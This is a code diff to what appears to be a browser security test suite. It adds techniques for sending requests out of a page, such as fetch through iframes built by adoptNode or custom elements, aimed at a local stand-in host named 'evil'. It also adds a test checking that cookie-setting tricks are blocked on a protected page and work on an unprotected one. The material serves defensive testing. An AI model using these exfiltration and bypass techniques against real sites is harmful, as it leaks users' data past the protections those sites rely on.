@@ -59,6 +59,8 @@ const WAYS = {
   "payment by another site": (to) => new PaymentRequest([{ supportedMethods: to }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
   "the realm of an empty frame": (to) => { const it = document.createElement("iframe"); document.body.append(it); it.contentWindow.fetch(to, { mode: "no-cors" }); new it.contentWindow.Image().src = to; it.contentWindow.navigator.sendBeacon(to, "x"); },
   "WebRTC in the realm of an empty frame": (to) => { const frame = document.createElement("iframe"); document.body.append(frame); const it = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: to.replace("http://", "stun:").replace(/\/.*/, "") }] }); it.createDataChannel("x"); return it.createOffer().then((offer) => it.setLocalDescription(offer)); },
+  "the realm of a frame that another document made": (to) => { const it = document.adoptNode(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement); document.body.append(it); it.contentWindow.fetch(to, { mode: "no-cors" }); },
+  "the realm of a frame with a name of its own": (to) => { const name = `x-${Math.random().toString(36).slice(2)}`; class Own extends HTMLIFrameElement {} customElements.define(name, Own, { extends: "iframe" }); const it = new Own(); document.body.append(it); it.contentWindow.fetch(to, { mode: "no-cors" }); },
   "a frame made of text": (to) => { const it = document.createElement("iframe"); it.srcdoc = `<img src="${to}">`; document.body.append(it); },
   "a frame that is a script": (to) => { const it = document.createElement("iframe"); it.src = `javascript:fetch("${to}")`; document.body.append(it); },
   "markup": (to) => { document.body.insertAdjacentHTML("beforeend", `<img src="${to}">`); },
@@ -97,30 +99,35 @@ async function elsewhere(use) {
   }
 }
 
+/** A page that nothing protects. */
+async function plain(use) {
+  const server = http.createServer((_, response) => { response.writeHead(200, { "content-type": "text/html" }); response.end("<!doctype html><title>plain</title><body>"); });
+  await new Promise((done) => server.listen(0, "127.0.0.1", done));
+  try {
+    await use(`http://127.0.0.1:${server.address().port}/`);
+  } finally {
+    server.closeAllConnections();
+    server.close();
+  }
+}
+
 /** Tries one way out, and gives it a moment. */
 const tries = (page, name, to, moment) => page.evaluate(`Promise.race([Promise.resolve().then(() => (${WAYS[name]})(${JSON.stringify(to)})), new Promise((done) => setTimeout(done, ${moment}))]).catch(() => undefined).then(() => undefined)`);
 
 test("the ways out are real: from a page without protection they arrive", async ({ browser }) => {
   test.slow();
   await elsewhere(async (evil, arrived) => {
-    const plain = http.createServer((_, response) => { response.writeHead(200, { "content-type": "text/html" }); response.end("<!doctype html><title>plain</title><body>"); });
-    await new Promise((done) => plain.listen(0, "127.0.0.1", done));
     const names = Object.keys(WAYS);
     const context = await browser.newContext();
-    const one = async () => {
+    const one = async (address) => {
       for (let name = names.shift(); name; name = names.shift()) {
         const page = await context.newPage();
-        await page.goto(`http://127.0.0.1:${plain.address().port}/`);
+        await page.goto(address);
         await tries(page, name, `${evil}/${encodeURIComponent(name)}`, 300).catch(() => undefined);
         for (let i = 0; i < 15 && !arrived.has(name); i += 1) await page.waitForTimeout(20);
       }
     };
-    try {
-      await Promise.all([one(), one(), one(), one()]);
-    } finally {
-      plain.closeAllConnections();
-      plain.close();
-    }
+    await plain((address) => Promise.all([one(address), one(address), one(address), one(address)]));
     // Those that this browser doesn't go without a gesture, without TLS, only when it likes, or at all. "early connection" sends
     // nothing: no policy forbids it, and a name that someone looks up can carry something. It is said in SECURITY.md. Datagrams
     // carry no name: those from a frame count as the ones of the page itself.
@@ -197,11 +204,19 @@ test("nor by the way out, nor by what is put in the place of the guard’s own t
 test("a script in the page sets no cookie", async ({ page, context }) => {
   const worker = new Worker(page);
   await worker.opens();
-  await page.evaluate(async () => {
-    document.cookie = "a=1; path=/";
-    const { set } = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
-    set?.call(document, "b=1; path=/");
-    await globalThis.cookieStore?.set("c", "1");
-  }).catch(() => undefined);
+  const ways = [
+    () => { document.cookie = "a=1; path=/"; },
+    () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").set.call(document, "b=1; path=/"),
+    () => globalThis.cookieStore.set("c", "1"),
+    () => { const it = document.adoptNode(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement); document.body.append(it); it.contentDocument.cookie = "d=1; path=/"; },
+    () => { class Own extends HTMLIFrameElement {} customElements.define("x-own", Own, { extends: "iframe" }); const it = new Own(); document.body.append(it); it.contentDocument.cookie = "e=1; path=/"; },
+  ];
+  for (const way of ways) await page.evaluate(way).catch(() => undefined);
   expect(await context.cookies()).toEqual([]);
+  // From a page without protection each of them does.
+  await plain(async (address) => {
+    await page.goto(address);
+    for (const way of ways) await page.evaluate(way).catch(() => undefined);
+  });
+  expect((await context.cookies()).map((it) => it.name).sort()).toEqual(["a", "b", "c", "d", "e"]);
 });
